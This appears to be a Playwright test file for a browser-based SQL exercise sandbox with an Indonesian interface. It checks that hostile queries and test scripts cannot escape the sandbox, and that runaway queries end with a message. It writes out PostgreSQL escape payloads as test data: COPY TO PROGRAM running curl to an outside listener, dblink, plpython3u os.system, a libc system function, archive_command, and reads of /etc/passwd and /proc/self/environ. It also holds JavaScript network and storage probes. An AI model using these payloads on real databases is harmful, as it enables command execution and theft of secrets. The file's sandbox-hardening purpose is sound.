import type { Page } from '@playwright/test'
import { ended, pressRun } from './exercise-runs.ts'
import { expectUnharmed, listenOutside, runHostile } from './hostile-code.ts'
import { expect, test, thorough } from './test.ts'

// Hostile SQL, whose database is a file in the memory of a worker, and hostile tests of SQL, which are JavaScript.

test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })

const { outside, received } = listenOutside()

async function runQuery(page: Page, code: string): Promise<void> {
  await page.getByRole('tab', { name: 'Kode' }).click()
  const first = page.getByRole('button', { name: /^Muat |^Jalankan$/ })
  if ((await first.innerText()).startsWith('Muat')) await first.click()
  await expect(page.getByRole('button', { name: 'Jalankan' })).toBeEnabled({ timeout: 30_000 })
  await page.getByRole('textbox', { name: /^Kode kueri/ }).press('Control+a')
  // The browser takes minutes to replace a line of 18,000 characters; the editor deletes it at once.
  await page.keyboard.press('Delete')
  await page.keyboard.insertText(code)
  await pressRun(page)
}

test(
  'hostile SQL reaches no program, no server and no file, and the next run has a new database',
  thorough,
  async ({ page, request }) => {
    test.setTimeout(300_000)
    const { host, hostname, port } = new URL(outside())
    const link = `host=${hostname} port=${port} user=a dbname=a`
    const run = await runHostile({ page, request, outside: outside() }, 'sql', 'select 1')
    await expect(page.getByText('Semua 1 tes lulus!')).toBeVisible({ timeout: 30_000 })
    for (const attempt of [
      `copy (select 1) to program 'curl ${outside()}/copy'`,
      `create table t (a text); copy t from program 'curl ${outside()}/salin'; select * from t`,
      `create extension dblink; select * from dblink('${link}', 'select 1') as t (a int)`,
      `create extension postgres_fdw; create server s foreign data wrapper postgres_fdw options (host '${hostname}', port '${port}')`,
      `create extension http; select http_get('${outside()}/http')`,
      `create extension plpython3u; do $$ import os; os.system('curl ${outside()}/py') $$ language plpython3u`,
      `create function jahat() returns int language c as 'libc.so.6', 'system'; select jahat()`,
      `load '/tmp/jahat.so'`,
      `create subscription s connection '${link}' publication p`,
      `alter system set archive_command = 'curl ${outside()}/arsip'; select pg_reload_conf(), pg_switch_wal()`,
      `select lo_import('/etc/passwd'), lo_export(1, '/tmp/keluar')`,
      `select pg_read_file('/proc/self/environ')`,
      `select pg_terminate_backend(pg_backend_pid())`,
      `notify a, '${host}'; listen a`,
    ]) {
      // The reload leaves only output of this run.
      await page.reload()
      await runQuery(page, attempt)
      await expect(page.getByText(ended), attempt).toBeVisible({ timeout: 40_000 })
    }
    const [passed, failed] = ['Semua 1 tes lulus!', '0 dari 1 tes lulus.']
    for (const [code, found] of [
      ['select 1', passed],
      ["select pg_read_file('/tmp/bekas')", failed],
      ["copy (select 'bekas') to '/tmp/bekas'; create table bekas (a int); select 1", passed],
      ["select pg_read_file('/tmp/bekas')", failed],
      ['select 1', passed],
      ['select * from bekas', failed],
    ] as const) {
      await runQuery(page, code)
      await expect(page.getByText(found), code).toBeVisible({ timeout: 40_000 })
    }
    await expectUnharmed(page, run, received)
  },
)

test('hostile tests of SQL send nothing and find no token', thorough, async ({ page, request }) => {
  const tests = `tes('serang', async () => {
    const hasil = []
    for (const [nama, coba] of Object.entries({
      fetch: () => fetch('${outside()}/fetch'),
      xhr() { const x = new XMLHttpRequest(); x.open('GET', '${outside()}/xhr', false); x.send() },
      impor: () => importScripts('${outside()}/impor.js'),
      modul: () => import('${outside()}/modul.js'),
      penyimpanan: () => localStorage.length,
      basis: () => new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b }),
      cache: () => caches.open('x'),
      induk: () => parent.document,
      memori: () => new SharedArrayBuffer(1),
    })) try { await coba(); hasil.push(nama) } catch {}
    for (const coba of [
      () => new WebSocket('${outside().replace('http', 'ws')}/soket'),
      () => new EventSource('${outside()}/peristiwa'),
      () => new Worker('${outside()}/pekerja.js'),
    ]) try { coba() } catch {}
    console.log('HASIL ' + hasil.join(','))
  })`
  const run = await runHostile({ page, request, outside: outside() }, 'sql', 'select 1', tests)
  await expect(page.getByText(/^HASIL\s*$/)).toBeVisible({ timeout: 30_000 })
  await expectUnharmed(page, run, received)
})

/** Timeouts are followed by cases that only a working database answers. */
const mistakes = [
  // The exercise starts with this one: to type so long a line may take the browser minutes.
  ['2,000 results', 'select 1;'.repeat(2_000), /keluarannya terlalu banyak|Sisanya tidak tampil/],
  [
    'an endless recursive query',
    'with recursive ulang as (select 1 as n union all select n + 1 from ulang) select count(*) from ulang',
    /dihentikan setelah 5 detik|memakai terlalu banyak memori/,
  ],
  ['10 MB of output', "select repeat('x', 100) from generate_series(1, 100000)", /… dan 99\.?980 baris lagi/],
  ['an endless loop', 'do $$ begin loop end loop; end $$', /dihentikan setelah 5 detik/],
  ['a line of 10 MB', "select repeat('x', 10000000) as panjang", /x{100}…/],
  ['a query that sleeps', 'select pg_sleep(60)', /dihentikan setelah 5 detik/],
  [
    'recursion',
    'create function f() returns int language sql as $$ select 1 $$; create or replace function f() returns int language plpgsql as $$ begin return f(); end $$; select f()',
    /memanggil dirinya tanpa henti/,
  ],
  ['a syntax error', 'selec 1', /kueri\.sql, baris 1: Susunan perintah SQL salah/],
] as const

test(
  'SQL that never ends, floods or is wrong ends in a sentence, and the next run works',
  thorough,
  async ({ page, request }) => {
    test.setTimeout(300_000)
    const [[, first]] = mistakes
    const run = await runHostile({ page, request, outside: outside() }, 'sql', first)
    for (const [name, code, sentence] of mistakes)
      await test.step(`in SQL, ${name} ends in a sentence`, async () => {
        if (code !== first) await runQuery(page, code)
        await expect(page.getByText(sentence).first()).toBeVisible({ timeout: 40_000 })
        await expect(page.getByText(ended)).toBeVisible({ timeout: 40_000 })
        await expectUnharmed(page, run, received)
      })
    await runQuery(page, 'select 1 as lanjut')
    await expect(page.getByText('Semua 1 tes lulus!')).toBeVisible({ timeout: 40_000 })
    await expectUnharmed(page, run, received)
  },
)
